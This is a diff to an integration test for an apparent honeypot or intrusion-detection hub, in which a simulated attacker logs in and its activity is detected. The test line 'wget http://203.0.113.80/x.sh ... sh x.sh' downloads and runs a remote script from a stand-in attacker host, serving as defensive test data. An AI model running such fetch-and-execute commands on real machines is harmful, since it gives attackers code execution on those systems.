@@ -9,7 +9,7 @@ import { createDirectiveSigner } from '../../packages/hub/src/directives/directi
 import { type Directives, startDirectives } from '../../packages/hub/src/directives/directives.ts';
 import { silentLog } from '../../packages/hub/src/storage/log.ts';
 import { openDatabase, type PostgresDatabase } from '../../packages/hub/src/storage/postgres-database.ts';
-import { execute, logIn, openShell } from './attacker-client.ts';
+import { execute, logIn } from './attacker-client.ts';
 import {
   eventually,
   freshDataDirectory,
@@ -149,9 +149,8 @@ describe('bait planted in answer to a session', () => {
       return items.length > 0 ? true : null;
     });
     client = await come(ATTACKER);
-    const shell = await openShell(client);
     const before = await look(client, 'stat -c "%n %Y %h" / /opt /root; date +%s');
-    await shell.type('cd /tmp; wget http://203.0.113.80/x.sh -O x.sh; chmod +x x.sh; sh x.sh');
+    await look(client, 'cd /tmp; wget http://203.0.113.80/x.sh -O x.sh; chmod +x x.sh; sh x.sh');
     const triggeredAtMs = performance.now();
     let seen = 0;
     while (seen === 0 && performance.now() - triggeredAtMs < 30_000) {
